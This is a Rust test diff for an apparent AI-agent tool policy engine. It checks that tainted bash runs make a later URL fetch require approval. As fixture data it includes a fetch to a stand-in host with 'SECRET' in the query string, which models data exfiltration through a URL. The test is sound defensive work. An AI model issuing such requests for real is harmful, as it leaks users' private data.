@@ -130,3 +130,57 @@ fn private_data_is_tracked() {
     let logs = act("logs", Value::Null, &[]);
     assert!(Taint::clean().after(&p2, &logs).private);
 }
+
+/// Issue 13: taint can come from bash. A lab-mode run, a run with network
+/// and a run whose input the person marked untrusted taint the session; a
+/// later fetch (which can carry data out in its URL) then asks. A plain
+/// sandboxed run does not taint. (Checked failing with `brings_untrusted`
+/// back to the capability and `reads_untrusted` only.)
+#[test]
+fn bash_runs_with_network_lab_or_untrusted_input_taint_the_session() {
+    let p = shipped();
+    let bash = |effects: &[Effect]| {
+        act(
+            "bash",
+            Value::object([("command", Value::from("curl -s https://x.test/"))]),
+            effects,
+        )
+    };
+    let fetch = act(
+        "fetch",
+        Value::object([("url", Value::from("https://y.test/?q=SECRET"))]),
+        &[],
+    );
+    let ctx = |taint| Context {
+        taint,
+        ..Context::new(Tier::Auto)
+    };
+    for effects in [
+        &[Effect::RunsSandboxed, Effect::NetworkEgress][..],
+        &[Effect::RunsSandboxed, Effect::LabAccess],
+        &[Effect::RunsSandboxed, Effect::ReadsUntrusted],
+        &[Effect::RunsUnsandboxed, Effect::NetworkEgress],
+    ] {
+        let run = bash(effects);
+        let ev = evaluate(&p, &run, &ctx(Taint::clean()));
+        assert!(
+            !ev.decision
+                .reasons
+                .iter()
+                .any(|r| matches!(r, Reason::EffectNotPermitted { .. })),
+            "{effects:?}: {:?}",
+            ev.decision
+        );
+        let taint = Taint::clean().after(&p, &run);
+        assert!(taint.untrusted, "{effects:?} did not taint");
+        let later = evaluate(&p, &fetch, &ctx(taint));
+        assert!(later.trifecta, "{effects:?}");
+        assert_eq!(later.decision.verdict, Verdict::Ask, "{effects:?}");
+    }
+    let sandboxed = bash(&[Effect::RunsSandboxed]);
+    assert!(!Taint::clean().after(&p, &sandboxed).untrusted);
+    assert_eq!(
+        evaluate(&p, &fetch, &ctx(Taint::clean())).decision.verdict,
+        Verdict::Run
+    );
+}
